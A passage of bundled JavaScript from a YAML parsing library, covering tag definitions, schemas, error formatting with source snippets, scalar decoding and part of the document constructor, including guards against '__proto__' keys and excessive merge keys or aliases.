  represent: (object) => object.toISOString()
});
var seqTag = defineSequenceTag("tag:yaml.org,2002:seq", {
  create: () => [],
  addItem: (container, item) => {
    container.push(item);
  },
  identify: Array.isArray
});
function isPlainObject(data) {
  if (data === null || typeof data !== "object" || Array.isArray(data)) return false;
  const prototype = Object.getPrototypeOf(data);
  return prototype === null || prototype === Object.prototype;
}
function pick(object, keys) {
  const result = {};
  for (const key2 of keys) if (object[key2] !== void 0) result[key2] = object[key2];
  return result;
}
var omapTag = defineSequenceTag("tag:yaml.org,2002:omap", {
  create: () => ({
    list: [],
    seen: /* @__PURE__ */ new Set()
  }),
  addItem: (carrier, item) => {
    let key2;
    if (item instanceof Map) {
      if (item.size !== 1) return "cannot resolve an ordered map item";
      key2 = item.keys().next().value;
    } else if (isPlainObject(item)) {
      const itemKeys = Object.keys(item);
      if (itemKeys.length !== 1) return "cannot resolve an ordered map item";
      key2 = itemKeys[0];
    } else return "cannot resolve an ordered map item";
    if (carrier.seen.has(key2)) return "duplicate key in ordered map";
    carrier.seen.add(key2);
    carrier.list.push(item);
    return "";
  },
  finalize: (carrier) => carrier.list,
  identify: () => false
});
var pairsTag = defineSequenceTag("tag:yaml.org,2002:pairs", {
  create: () => [],
  addItem: (container, item) => {
    if (item instanceof Map) {
      if (item.size !== 1) return "cannot resolve a pairs item";
      container.push(item.entries().next().value);
      return "";
    }
    if (Object.prototype.toString.call(item) !== "[object Object]") return "cannot resolve a pairs item";
    const object = item;
    const keys = Object.keys(object);
    if (keys.length !== 1) return "cannot resolve a pairs item";
    container.push([keys[0], object[keys[0]]]);
    return "";
  },
  identify: () => false
});
var mapTag = defineMappingTag("tag:yaml.org,2002:map", {
  create: () => ({}),
  identify: isPlainObject,
  represent: (o) => {
    const map = /* @__PURE__ */ new Map();
    for (const key2 of Object.keys(o)) map.set(key2, o[key2]);
    return map;
  },
  addPair: (container, key2, value) => {
    if (key2 !== null && typeof key2 === "object") return "object-based map does not support complex keys";
    const normalizedKey = String(key2);
    if (normalizedKey === "__proto__") Object.defineProperty(container, normalizedKey, {
      value,
      enumerable: true,
      configurable: true,
      writable: true
    });
    else container[normalizedKey] = value;
    return "";
  },
  has: (container, key2) => {
    if (key2 !== null && typeof key2 === "object") return false;
    return Object.prototype.hasOwnProperty.call(container, String(key2));
  },
  keys: (container) => Object.keys(container),
  get: (container, key2) => {
    const normalizedKey = String(key2);
    if (!Object.prototype.hasOwnProperty.call(container, normalizedKey)) return null;
    return container[normalizedKey];
  }
});
var setTag = defineMappingTag("tag:yaml.org,2002:set", {
  create: () => /* @__PURE__ */ new Set(),
  identify: (data) => data instanceof Set,
  represent: (data) => {
    const map = /* @__PURE__ */ new Map();
    for (const key2 of data) map.set(key2, null);
    return map;
  },
  addPair: (container, key2, value) => {
    if (value !== null) return "cannot resolve a set item";
    container.add(key2);
    return "";
  },
  has: (container, key2) => container.has(key2),
  keys: (container) => container.keys(),
  get: () => null
});
function createTagDefinitionMap() {
  return {
    scalar: /* @__PURE__ */ Object.create(null),
    sequence: /* @__PURE__ */ Object.create(null),
    mapping: /* @__PURE__ */ Object.create(null)
  };
}
function createTagDefinitionListMap() {
  return {
    scalar: [],
    sequence: [],
    mapping: []
  };
}
function compileTags(tags) {
  const result = [];
  for (const tag of tags) {
    let index = result.length;
    for (let previousIndex = 0; previousIndex < result.length; previousIndex++) {
      const previous = result[previousIndex];
      if (previous.nodeKind === tag.nodeKind && previous.tagName === tag.tagName && previous.matchByTagPrefix === tag.matchByTagPrefix) {
        index = previousIndex;
        break;
      }
    }
    result[index] = tag;
  }
  return result;
}
var Schema = class Schema2 {
  tags;
  /** @internal */
  implicitScalarTags;
  /**
  * Dispatch implicit scalar resolvers by `source.charAt(0)`. Each bucket holds
  * the resolvers that may match that key, in schema order; a key absent from
  * the map uses
  * {@link Schema.implicitScalarAnyFirstChar}
  * (resolvers that declared no first-char constraint, so they apply to any
  * first character).
  */
  implicitScalarByFirstChar;
  implicitScalarAnyFirstChar;
  /**
  * The default scalar tag (`!!str`), resolved once so the composer's fallback
  * for unresolved plain scalars avoids a keyed lookup per scalar.
  *
  * @internal
  */
  defaultScalarTag;
  /**
  * The default container tags (`!!seq` / `!!map`), used by the dumper: when a
  * value is identified by its default tag, the tag is implicit and not
  * printed. Undefined if the schema does not define them (then such values
  * can't be dumped).
  *
  * @internal
  */
  defaultSequenceTag;
  /** @internal */
  defaultMappingTag;
  exact;
  prefix;
  constructor(tags) {
    const compiledTags = compileTags(tags);
    const implicitScalarTags = [];
    const exact = createTagDefinitionMap();
    const prefix = createTagDefinitionListMap();
    for (const tag of compiledTags) {
      if (tag.nodeKind === "scalar" && tag.implicit) {
        if (tag.matchByTagPrefix) throw new Error("Implicit scalar tags cannot match by tag prefix");
        implicitScalarTags.push(tag);
      }
      switch (tag.nodeKind) {
        case "scalar":
          if (tag.matchByTagPrefix) prefix.scalar.push(tag);
          else exact.scalar[tag.tagName] = tag;
          break;
        case "sequence":
          if (tag.matchByTagPrefix) prefix.sequence.push(tag);
          else exact.sequence[tag.tagName] = tag;
          break;
        case "mapping":
          if (tag.matchByTagPrefix) prefix.mapping.push(tag);
          else exact.mapping[tag.tagName] = tag;
      }
    }
    const implicitScalarAnyFirstChar = implicitScalarTags.filter((tag) => tag.implicitFirstChars === null);
    const keys = /* @__PURE__ */ new Set();
    for (const tag of implicitScalarTags) if (tag.implicitFirstChars !== null) for (const key2 of tag.implicitFirstChars) keys.add(key2);
    const implicitScalarByFirstChar = /* @__PURE__ */ new Map();
    for (const key2 of keys) implicitScalarByFirstChar.set(key2, implicitScalarTags.filter((tag) => tag.implicitFirstChars === null || tag.implicitFirstChars.indexOf(key2) !== -1));
    const defaultScalarTag = exact.scalar["tag:yaml.org,2002:str"];
    if (!defaultScalarTag) throw new Error("schema does not define the default scalar tag (tag:yaml.org,2002:str)");
    this.tags = compiledTags;
    this.implicitScalarTags = implicitScalarTags;
    this.implicitScalarByFirstChar = implicitScalarByFirstChar;
    this.implicitScalarAnyFirstChar = implicitScalarAnyFirstChar;
    this.defaultScalarTag = defaultScalarTag;
    this.defaultSequenceTag = exact.sequence["tag:yaml.org,2002:seq"];
    this.defaultMappingTag = exact.mapping["tag:yaml.org,2002:map"];
    this.exact = exact;
    this.prefix = prefix;
  }
  /** @internal */
  lookupScalarTag(tagName) {
    const exactTag = this.exact.scalar[tagName];
    if (exactTag) return exactTag;
    for (const tag of this.prefix.scalar) if (tagName.startsWith(tag.tagName)) return tag;
  }
  /** @internal */
  lookupSequenceTag(tagName) {
    const exactTag = this.exact.sequence[tagName];
    if (exactTag) return exactTag;
    for (const tag of this.prefix.sequence) if (tagName.startsWith(tag.tagName)) return tag;
  }
  /** @internal */
  lookupMappingTag(tagName) {
    const exactTag = this.exact.mapping[tagName];
    if (exactTag) return exactTag;
    for (const tag of this.prefix.mapping) if (tagName.startsWith(tag.tagName)) return tag;
  }
  /** @internal */
  resolveImplicitScalarTag(source) {
    const candidates = this.implicitScalarByFirstChar.get(source.charAt(0)) ?? this.implicitScalarAnyFirstChar;
    for (const tag2 of candidates) {
      const value = tag2.resolve(source, false, tag2.tagName);
      if (value !== NOT_RESOLVED) return {
        value,
        tag: tag2
      };
    }
    const tag = this.defaultScalarTag;
    return {
      value: tag.resolve(source, false, tag.tagName),
      tag
    };
  }
  /**
  * Creates a new schema with the specified tags added. If a tag already
  * exists, it is replaced by the specified tag.
  *
  * @example
  *
  * ```javascript
  * import { CORE_SCHEMA, mergeTag, realMapTag } from 'js-yaml'
  *
  * const schema = CORE_SCHEMA.withTags(mergeTag, realMapTag)
  * ```
  */
  withTags(...tags) {
    let flatTags = [];
    for (const tag of tags) flatTags = flatTags.concat(tag);
    return new Schema2([...this.tags, ...flatTags]);
  }
};
var FAILSAFE_SCHEMA = new Schema([
  strTag,
  seqTag,
  mapTag
]);
var JSON_SCHEMA = new Schema([
  ...FAILSAFE_SCHEMA.tags,
  nullJsonTag,
  boolJsonTag,
  intJsonTag,
  floatJsonTag
]);
var CORE_SCHEMA = new Schema([
  ...FAILSAFE_SCHEMA.tags,
  nullCoreTag,
  boolCoreTag,
  intCoreTag,
  floatCoreTag
]);
var YAML11_SCHEMA = new Schema([
  ...FAILSAFE_SCHEMA.tags,
  nullYaml11Tag,
  boolYaml11Tag,
  intYaml11Tag,
  floatYaml11Tag,
  timestampTag,
  mergeTag,
  binaryTag,
  omapTag,
  pairsTag,
  setTag
]);
var DUMP_SCHEMA = YAML11_SCHEMA.withTags({
  ...intYaml11Tag,
  resolve: (source, isExplicit, tagName) => {
    const result = intYaml11Tag.resolve(source, isExplicit, tagName);
    return result === NOT_RESOLVED ? intCoreTag.resolve(source, isExplicit, tagName) : result;
  }
}, {
  ...floatYaml11Tag,
  resolve: (source, isExplicit, tagName) => {
    const result = floatYaml11Tag.resolve(source, isExplicit, tagName);
    return result === NOT_RESOLVED ? floatCoreTag.resolve(source, isExplicit, tagName) : result;
  }
});
var realMapTag = defineMappingTag("tag:yaml.org,2002:map", {
  create: () => /* @__PURE__ */ new Map(),
  addPair: (container, key2, value) => {
    container.set(key2, value);
    return "";
  },
  has: (container, key2) => container.has(key2),
  keys: (container) => container.keys(),
  get: (container, key2) => container.get(key2),
  identify: (data) => data instanceof Map || isPlainObject(data),
  represent: (data) => {
    if (data instanceof Map) return data;
    const map = /* @__PURE__ */ new Map();
    const obj = data;
    for (const key2 of Object.keys(obj)) map.set(key2, obj[key2]);
    return map;
  }
});
function normalizeKey(key2) {
  if (Array.isArray(key2)) {
    const array = Array.prototype.slice.call(key2);
    for (let index = 0; index < array.length; index++) {
      if (Array.isArray(array[index])) return null;
      if (typeof array[index] === "object" && Object.prototype.toString.call(array[index]) === "[object Object]") array[index] = "[object Object]";
    }
    return String(array);
  }
  if (typeof key2 === "object" && Object.prototype.toString.call(key2) === "[object Object]") return "[object Object]";
  return String(key2);
}
var legacyMapTag = defineMappingTag("tag:yaml.org,2002:map", {
  create: () => ({}),
  identify: isPlainObject,
  represent: (o) => {
    const map = /* @__PURE__ */ new Map();
    for (const key2 of Object.keys(o)) map.set(key2, o[key2]);
    return map;
  },
  addPair: (container, key2, value) => {
    const normalizedKey = normalizeKey(key2);
    if (normalizedKey === null) return "nested arrays are not supported inside keys";
    if (normalizedKey === "__proto__") Object.defineProperty(container, normalizedKey, {
      value,
      enumerable: true,
      configurable: true,
      writable: true
    });
    else container[normalizedKey] = value;
    return "";
  },
  has: (container, key2) => {
    const normalizedKey = normalizeKey(key2);
    return normalizedKey !== null && Object.prototype.hasOwnProperty.call(container, normalizedKey);
  },
  keys: (container) => Object.keys(container),
  get: (container, key2) => {
    const normalizedKey = String(key2);
    if (!Object.prototype.hasOwnProperty.call(container, normalizedKey)) return null;
    return container[normalizedKey];
  }
});
var DEFAULT_SNIPPET_OPTIONS = {
  maxLength: 79,
  indent: 1,
  linesBefore: 3,
  linesAfter: 2
};
function getLine(buffer, lineStart, lineEnd, position, maxLineLength) {
  let head = "";
  let tail = "";
  const maxHalfLength = Math.floor(maxLineLength / 2) - 1;
  if (position - lineStart > maxHalfLength) {
    head = " ... ";
    lineStart = position - maxHalfLength + head.length;
  }
  if (lineEnd - position > maxHalfLength) {
    tail = " ...";
    lineEnd = position + maxHalfLength - tail.length;
  }
  return {
    str: head + buffer.slice(lineStart, lineEnd).replace(/\t/g, "\u2192") + tail,
    pos: position - lineStart + head.length
  };
}
function padStart(string, max) {
  return " ".repeat(Math.max(max - string.length, 0)) + string;
}
function makeSnippet(mark, options) {
  if (!mark.buffer) return null;
  const opts = {
    ...DEFAULT_SNIPPET_OPTIONS,
    ...options
  };
  const re = /\r?\n|\r|\0/g;
  const lineStarts2 = [0];
  const lineEnds = [];
  let match2;
  let foundLineNo = -1;
  while (match2 = re.exec(mark.buffer)) {
    lineEnds.push(match2.index);
    lineStarts2.push(match2.index + match2[0].length);
    if (mark.position <= match2.index && foundLineNo < 0) foundLineNo = lineStarts2.length - 2;
  }
  if (foundLineNo < 0) foundLineNo = lineStarts2.length - 1;
  let result = "";
  const lineNoLength = Math.min(mark.line + opts.linesAfter, lineEnds.length).toString().length;
  const maxLineLength = opts.maxLength - (opts.indent + lineNoLength + 3);
  for (let i = 1; i <= opts.linesBefore; i++) {
    if (foundLineNo - i < 0) break;
    const line2 = getLine(mark.buffer, lineStarts2[foundLineNo - i], lineEnds[foundLineNo - i], mark.position - (lineStarts2[foundLineNo] - lineStarts2[foundLineNo - i]), maxLineLength);
    result = `${" ".repeat(opts.indent)}${padStart((mark.line - i + 1).toString(), lineNoLength)} | ${line2.str}
${result}`;
  }
  const line = getLine(mark.buffer, lineStarts2[foundLineNo], lineEnds[foundLineNo], mark.position, maxLineLength);
  result += `${" ".repeat(opts.indent)}${padStart((mark.line + 1).toString(), lineNoLength)} | ${line.str}
`;
  result += `${"-".repeat(opts.indent + lineNoLength + 3 + line.pos)}^
`;
  for (let i = 1; i <= opts.linesAfter; i++) {
    if (foundLineNo + i >= lineEnds.length) break;
    const line2 = getLine(mark.buffer, lineStarts2[foundLineNo + i], lineEnds[foundLineNo + i], mark.position - (lineStarts2[foundLineNo] - lineStarts2[foundLineNo + i]), maxLineLength);
    result += `${" ".repeat(opts.indent)}${padStart((mark.line + i + 1).toString(), lineNoLength)} | ${line2.str}
`;
  }
  return result.replace(/\n$/, "");
}
function formatError(exception, compact2) {
  let where = "";
  if (!exception.mark) return exception.reason;
  if (exception.mark.name) where += `in "${exception.mark.name}" `;
  where += `(${exception.mark.line + 1}:${exception.mark.column + 1})`;
  if (!compact2 && exception.mark.snippet) where += `

${exception.mark.snippet}`;
  return `${exception.reason} ${where}`;
}
var YAMLException = class YAMLException2 extends Error {
  reason;
  mark;
  /**
  * Optional `mark` contains source snippet data. Usually, use
  * {@link YAMLException.throwAt} instead of passing it directly.
  */
  constructor(reason, mark) {
    super();
    this.name = "YAMLException";
    this.reason = reason;
    this.mark = mark;
    this.message = formatError(this, false);
    if (Error.captureStackTrace) Error.captureStackTrace(this, this.constructor);
  }
  /**
  * Returns the formatted error, omitting the source snippet in compact mode.
  */
  toString(compact2) {
    return `${this.name}: ${formatError(this, compact2)}`;
  }
  /**
  * Builds a YAMLException with a source snippet and throws it. `source` is
  * the raw input text; `position` is an offset into it.
  */
  static throwAt(source, position, message2, filename = "") {
    let line = 0;
    let lineStart = 0;
    for (let index = 0; index < position; index++) {
      const ch = source.charCodeAt(index);
      if (ch === 10) {
        line++;
        lineStart = index + 1;
      } else if (ch === 13) {
        line++;
        if (source.charCodeAt(index + 1) === 10) index++;
        lineStart = index + 1;
      }
    }
    const mark = {
      name: filename,
      buffer: source,
      position,
      line,
      column: position - lineStart
    };
    mark.snippet = makeSnippet(mark);
    throw new YAMLException2(message2, mark);
  }
};
var EVENT_ID = {
  DOCUMENT: 1,
  SEQUENCE: 2,
  MAPPING: 3,
  SCALAR: 4,
  ALIAS: 5,
  POP: 6
};
var SCALAR_STYLE = {
  PLAIN: 1,
  SINGLE_QUOTED: 2,
  DOUBLE_QUOTED: 3,
  LITERAL_BLOCK: 4,
  FOLDED_BLOCK: 5
};
var COLLECTION_STYLE = {
  BLOCK: 1,
  FLOW: 2
};
var CHOMPING_MODE = {
  CLIP: 1,
  STRIP: 2,
  KEEP: 3
};
var NO_RANGE$3 = -1;
function simpleEscapeSequence(c) {
  switch (c) {
    case 48:
      return "\0";
    case 97:
      return "\x07";
    case 98:
      return "\b";
    case 116:
      return "	";
    case 9:
      return "	";
    case 110:
      return "\n";
    case 118:
      return "\v";
    case 102:
      return "\f";
    case 114:
      return "\r";
    case 101:
      return "\x1B";
    case 32:
      return " ";
    case 34:
      return '"';
    case 47:
      return "/";
    case 92:
      return "\\";
    case 78:
      return "\x85";
    case 95:
      return "\xA0";
    case 76:
      return "\u2028";
    case 80:
      return "\u2029";
    default:
      return "";
  }
}
var simpleEscapeCheck = new Array(256);
var simpleEscapeMap = new Array(256);
for (let i = 0; i < 256; i++) {
  simpleEscapeCheck[i] = simpleEscapeSequence(i) ? 1 : 0;
  simpleEscapeMap[i] = simpleEscapeSequence(i);
}
function charFromCodepoint(c) {
  if (c <= 65535) return String.fromCharCode(c);
  return String.fromCharCode((c - 65536 >> 10) + 55296, (c - 65536 & 1023) + 56320);
}
function fromHexCode$1(c) {
  if (c >= 48 && c <= 57) return c - 48;
  return (c | 32) - 97 + 10;
}
function escapedHexLen$1(c) {
  if (c === 120) return 2;
  if (c === 117) return 4;
  return 8;
}
function skipFoldedBreaks(input2, position, end) {
  let breaks = 0;
  while (position < end) {
    const ch = input2.charCodeAt(position);
    if (ch === 10) {
      breaks++;
      position++;
    } else if (ch === 13) {
      breaks++;
      position++;
      if (input2.charCodeAt(position) === 10) position++;
    } else if (ch === 32 || ch === 9) position++;
    else break;
  }
  return {
    position,
    breaks
  };
}
function foldedBreaks(count) {
  if (count === 1) return " ";
  return "\n".repeat(count - 1);
}
function getPlainValue(input2, start, end) {
  let result = "";
  let position = start;
  let captureStart = start;
  let captureEnd = start;
  while (position < end) {
    const ch = input2.charCodeAt(position);
    if (ch === 10 || ch === 13) {
      result += input2.slice(captureStart, captureEnd);
      const fold = skipFoldedBreaks(input2, position, end);
      result += foldedBreaks(fold.breaks);
      position = captureStart = captureEnd = fold.position;
    } else {
      position++;
      if (ch !== 32 && ch !== 9) captureEnd = position;
    }
  }
  return result + input2.slice(captureStart, captureEnd);
}
function getSingleQuotedValue(input2, start, end) {
  let result = "";
  let position = start;
  let captureStart = start;
  let captureEnd = start;
  while (position < end) {
    const ch = input2.charCodeAt(position);
    if (ch === 39) {
      result += input2.slice(captureStart, position) + "'";
      position += 2;
      captureStart = captureEnd = position;
    } else if (ch === 10 || ch === 13) {
      result += input2.slice(captureStart, captureEnd);
      const fold = skipFoldedBreaks(input2, position, end);
      result += foldedBreaks(fold.breaks);
      position = captureStart = captureEnd = fold.position;
    } else {
      position++;
      if (ch !== 32 && ch !== 9) captureEnd = position;
    }
  }
  return result + input2.slice(captureStart, end);
}
function getDoubleQuotedValue(input2, start, end) {
  let result = "";
  let position = start;
  let captureStart = start;
  let captureEnd = start;
  while (position < end) {
    const ch = input2.charCodeAt(position);
    if (ch === 92) {
      result += input2.slice(captureStart, position);
      position++;
      const escaped = input2.charCodeAt(position);
      if (escaped === 10 || escaped === 13) position = skipFoldedBreaks(input2, position, end).position;
      else if (escaped < 256 && simpleEscapeCheck[escaped]) {
        result += simpleEscapeMap[escaped];
        position++;
      } else {
        let hexLength = escapedHexLen$1(escaped);
        let hexResult = 0;
        for (; hexLength > 0; hexLength--) {
          position++;
          const digit = fromHexCode$1(input2.charCodeAt(position));
          hexResult = (hexResult << 4) + digit;
        }
        result += charFromCodepoint(hexResult);
        position++;
      }
      captureStart = captureEnd = position;
    } else if (ch === 10 || ch === 13) {
      result += input2.slice(captureStart, captureEnd);
      const fold = skipFoldedBreaks(input2, position, end);
      result += foldedBreaks(fold.breaks);
      position = captureStart = captureEnd = fold.position;
    } else {
      position++;
      if (ch !== 32 && ch !== 9) captureEnd = position;
    }
  }
  return result + input2.slice(captureStart, end);
}
function getBlockValue(input2, start, end, indent2, chomping, folded) {
  const textIndent = indent2 < 0 ? 0 : indent2;
  const region = input2.slice(start, end).replace(/\r\n?/g, "\n");
  const lines2 = region === "" ? [] : (region.endsWith("\n") ? region.slice(0, -1) : region).split("\n");
  let result = "";
  let didReadContent = false;
  let emptyLines = 0;
  let atMoreIndented = false;
  for (const line of lines2) {
    let column = 0;
    while (column < textIndent && line.charCodeAt(column) === 32) column++;
    if (indent2 < 0 || column >= line.length) {
      emptyLines++;
      continue;
    }
    const content = line.slice(textIndent);
    const first = content.charCodeAt(0);
    if (folded) {
      if (first === 32 || first === 9) {
        atMoreIndented = true;
        result += "\n".repeat(didReadContent ? 1 + emptyLines : emptyLines);
      } else if (atMoreIndented) {
        atMoreIndented = false;
        result += "\n".repeat(emptyLines + 1);
      } else if (emptyLines === 0) {
        if (didReadContent) result += " ";
      } else result += "\n".repeat(emptyLines);
    } else result += "\n".repeat(didReadContent ? 1 + emptyLines : emptyLines);
    result += content;
    didReadContent = true;
    emptyLines = 0;
  }
  if (chomping === CHOMPING_MODE.KEEP) result += "\n".repeat(didReadContent ? 1 + emptyLines : emptyLines);
  else if (chomping !== CHOMPING_MODE.STRIP) {
    if (didReadContent) result += "\n";
  }
  return result;
}
function getScalarValue(input2, scalar) {
  if (scalar.valueStart === NO_RANGE$3) return "";
  const { valueStart, valueEnd } = scalar;
  if (scalar.fast) return input2.slice(valueStart, valueEnd);
  switch (scalar.style) {
    case SCALAR_STYLE.SINGLE_QUOTED:
      return getSingleQuotedValue(input2, valueStart, valueEnd);
    case SCALAR_STYLE.DOUBLE_QUOTED:
      return getDoubleQuotedValue(input2, valueStart, valueEnd);
    case SCALAR_STYLE.LITERAL_BLOCK:
      return getBlockValue(input2, valueStart, valueEnd, scalar.indent, scalar.chomping, false);
    case SCALAR_STYLE.FOLDED_BLOCK:
      return getBlockValue(input2, valueStart, valueEnd, scalar.indent, scalar.chomping, true);
    default:
      return getPlainValue(input2, valueStart, valueEnd);
  }
}
var DEFAULT_TAG_HANDLERS = Object.assign(/* @__PURE__ */ Object.create(null), {
  "!": "!",
  "!!": "tag:yaml.org,2002:"
});
var TAG_SUFFIX_CHARS = "-#;/?:@&=+$_.~*'()";
var TAG_URI_CHARS = TAG_SUFFIX_CHARS + "!,[]";
function tagPercentDecode(source) {
  let result = "";
  let index = 0;
  while (index < source.length) {
    if (source.charCodeAt(index) !== 37) {
      result += source[index++];
      continue;
    }
    let ch = parseInt(source.slice(index + 1, index + 3), 16);
    index += 3;
    if (ch >= 192) {
      let remaining = ch < 224 ? 1 : ch < 240 ? 2 : 3;
      ch &= (1 << 6 - remaining) - 1;
      while (remaining-- > 0) {
        ch = ch << 6 | parseInt(source.slice(index + 1, index + 3), 16) & 63;
        index += 3;
      }
    }
    if (ch < 65536) result += String.fromCharCode(ch);
    else {
      ch -= 65536;
      result += String.fromCharCode(55296 | ch >> 10, 56320 | ch & 1023);
    }
  }
  return result;
}
function tagNameFull(rawTag, tagHandlers) {
  if (rawTag.startsWith("!<") && rawTag.endsWith(">")) return tagPercentDecode(rawTag.slice(2, -1));
  const handleEnd = rawTag.indexOf("!", 1);
  const handle = handleEnd === -1 ? "!" : rawTag.slice(0, handleEnd + 1);
  return tagPercentDecode(tagHandlers?.[handle] ?? DEFAULT_TAG_HANDLERS[handle] ?? handle) + tagPercentDecode(rawTag.slice(handle.length));
}
var NO_RANGE$2 = -1;
var MERGE_TAG_NAME = "tag:yaml.org,2002:merge";
var DEFAULT_CONSTRUCTOR_OPTIONS = {
  filename: "",
  schema: CORE_SCHEMA,
  json: false,
  maxTotalMergeKeys: 1e4,
  maxAliases: -1
};
function eventPosition$1(event) {
  if ("tagStart" in event && event.tagStart !== NO_RANGE$2) return event.tagStart;
  if ("anchorStart" in event && event.anchorStart !== NO_RANGE$2) return event.anchorStart;
  if ("valueStart" in event && event.valueStart !== NO_RANGE$2) return event.valueStart;
  if ("start" in event) return event.start;
  return 0;
}
function throwError$1(state, message2) {
  YAMLException.throwAt(state.source, state.position, message2, state.filename);
}
function finalizeCollection(state, position, tag, carrier) {
  try {
    return tag.finalize(carrier);
  } catch (error) {
    if (error instanceof YAMLException) throw error;
    YAMLException.throwAt(state.source, position, error instanceof Error ? error.message : String(error), state.filename);
  }
}
function constructScalar(state, event) {
  const source = getScalarValue(state.source, event);
  const rawTag = event.tagStart === NO_RANGE$2 ? "" : state.source.slice(event.tagStart, event.tagEnd);
  const strTag2 = state.schema.defaultScalarTag;
  if (rawTag !== "") {
    if (rawTag === "!") return {
      value: source,
      tag: strTag2
    };
    const tagName = tagNameFull(rawTag, state.tagHandlers);
    const scalarTag = state.schema.lookupScalarTag(tagName);
    if (scalarTag) {
      const result = scalarTag.resolve(source, true, tagName);
      if (result === NOT_RESOLVED) throwError$1(state, `cannot resolve a node with !<${tagName}> explicit tag`);
      return {
        value: result,
        tag: scalarTag
      };
    }
    const collectionTagDef = state.schema.lookupMappingTag(tagName) ?? state.schema.lookupSequenceTag(tagName);
    if (collectionTagDef) {
      if (source !== "") throwError$1(state, `cannot resolve a node with !<${tagName}> explicit tag`);
      const carrier = collectionTagDef.create(tagName);
      return {
        value: collectionTagDef.carrierIsResult ? carrier : finalizeCollection(state, state.position, collectionTagDef, carrier),
        tag: collectionTagDef
      };
    }
    throwError$1(state, `unknown scalar tag !<${tagName}>`);
  }
  if (event.style === SCALAR_STYLE.PLAIN) return state.schema.resolveImplicitScalarTag(source);
  return {
    value: strTag2.resolve(source, false, strTag2.tagName),
    tag: strTag2
  };
}
function collectionTagName(state, event, defaultTagName) {
  const rawTag = event.tagStart === NO_RANGE$2 ? "" : state.source.slice(event.tagStart, event.tagEnd);
  return rawTag === "" || rawTag === "!" ? defaultTagName : tagNameFull(rawTag, state.tagHandlers);
}
function isMappingTag(tag) {
  return tag.nodeKind === "mapping";
}
function chargeMergeWork(state) {
  state.totalMergeKeys++;
  if (state.maxTotalMergeKeys !== -1 && state.totalMergeKeys > state.maxTotalMergeKeys) throwError$1(state, `merge keys exceeded maxTotalMergeKeys (${state.maxTotalMergeKeys})`);
}
function mergeKeys(state, frame, source, sourceTag) {
  chargeMergeWork(state);
  for (const sourceKey of sourceTag.keys(source)) {
    chargeMergeWork(state);
    if (frame.tag.has(frame.value, sourceKey)) continue;
    const err = frame.tag.addPair(frame.value, sourceKey, sourceTag.get(source, sourceKey));
    if (err) throwError$1(state, err);
    frame.overridable ??= /* @__PURE__ */ new Set();
    frame.overridable.add(sourceKey);
  }
}
function mergeSource(state, frame, source, sourceTag) {
  state.position = frame.keyPosition;
  if (isMappingTag(sourceTag)) mergeKeys(state, frame, source, sourceTag);
  else if (sourceTag.nodeKind === "sequence" && Array.isArray(source)) {
    if (source.length > 100) throwError$1(state, "abnormal merge sequence size");
    for (const element of source) {
      const elementTag = state.nodeTags.get(element);
      if (!elementTag) throwError$1(state, "cannot merge mappings; the provided source object is unacceptable");
      mergeKeys(state, frame, element, elementTag);
    }
  } else throwError$1(state, "cannot merge mappings; the provided source object is unacceptable");
}
function addMappingValue(state, frame, key2, value, tag) {
  state.position = frame.keyPosition;
  if (frame.keyIsMerge) {
    mergeSource(state, frame, value, tag);
    return;
  }
  if (!state.json && frame.tag.has(frame.value, key2) && !frame.overridable?.has(key2)) throwError$1(state, "duplicated mapping key");
  const err = frame.tag.addPair(frame.value, key2, value);
  if (err) throwError$1(state, err);
  frame.overridable?.delete(key2);
}
function addValue(state, value, tag) {
  const frame = state.frames[state.frames.length - 1];
  if (frame.kind === "document") {
    frame.value = value;
    frame.hasValue = true;
  } else if (frame.kind === "sequence") {
    if (isMappingTag(tag)) state.nodeTags.set(value, tag);
    const err = frame.tag.addItem(frame.value, value, frame.index++);
    if (err) throwError$1(state, err);
  } else if (frame.hasKey) {
    const key2 = frame.key;
    frame.key = void 0;
    frame.hasKey = false;
    addMappingValue(state, frame, key2, value, tag);
  } else {
    frame.key = value;
    frame.keyPosition = state.position;
    frame.hasKey = true;
    frame.keyIsMerge = tag.tagName === MERGE_TAG_NAME;
  }
}
function storeAnchor(state, event, value, tag, isValueFinal) {
  if (event.anchorStart !== NO_RANGE$2) {
    const anchor = {
      value,
      tag,
      isValueFinal
    };
    state.anchors.set(state.source.slice(event.anchorStart, event.anchorEnd), anchor);
    return anchor;
  }
  return null;
}
function constructFromEvents(events, options) {
  const state = {
    ...DEFAULT_CONSTRUCTOR_OPTIONS,
    ...options,
    events,
    documents: [],
    eventIndex: 0,
    position: 0,
    frames: [],
    anchors: /* @__PURE__ */ new Map(),
    nodeTags: /* @__PURE__ */ new Map(),
    tagHandlers: /* @__PURE__ */ Object.create(null),
    totalMergeKeys: 0,
    aliasCount: 0
  };
  while (state.eventIndex < state.events.length) {
    const event = state.events[state.eventIndex++];
    state.position = eventPosition$1(event);
    switch (event.type) {
      case EVENT_ID.DOCUMENT:
        state.anchors = /* @__PURE__ */ new Map();
        state.nodeTags = /* @__PURE__ */ new Map();
        state.aliasCount = 0;
        state.tagHandlers = /* @__PURE__ */ Object.create(null);
        for (const directive of event.directives) if (directive.kind === "tag") state.tagHandlers[directive.handle] = directive.prefix;
        state.frames.push({
          kind: "document",
          position: state.position,
          value: void 0,
          hasValue: false
        });
        break;
      case EVENT_ID.SCALAR: {
        const { value, tag } = constructScalar(state, event);
        storeAnchor(state, event, value, tag, true);
        addValue(state, value, tag);
        break;
      }
      case EVENT_ID.SEQUENCE: {
        const tagName = collectionTagName(state, event, "tag:yaml.org,2002:seq");
        const tag = state.schema.lookupSequenceTag(tagName);
        if (!tag) throwError$1(state, `unknown sequence tag !<${tagName}>`);
        const value = tag.create(tagName);
        const anchor = storeAnchor(state, event, value, tag, tag.carrierIsResult);
        state.frames.push({
          kind: "sequence",
          position: state.position,
          value,
          tag,
          anchor,
          index: 0
        });
        break;
      }
      case EVENT_ID.MAPPING: {
        const tagName = collectionTagName(state, event, "tag:yaml.org,2002:map");
        const tag = state.schema.lookupMappingTag(tagName);
        if (!tag) throwError$1(state, `unknown mapping tag !<${tagName}>`);
        const value = tag.create(tagName);
        const anchor = storeAnchor(state, event, value, tag, tag.carrierIsResult);
        state.frames.push({
          kind: "mapping",
          position: state.position,
          value,
          tag,
          anchor,
          key: void 0,
          keyPosition: state.position,
          hasKey: false,
          keyIsMerge: false,
          overridable: null
        });
        break;
      }
      case EVENT_ID.ALIAS: {
        if (state.maxAliases !== -1 && ++state.aliasCount > state.maxAliases) throwError$1(state, `aliases exceeded maxAliases (${state.maxAliases})`);
        const name = state.source.slice(event.anchorStart, event.anchorEnd);
        const anchor = state.anchors.get(name);
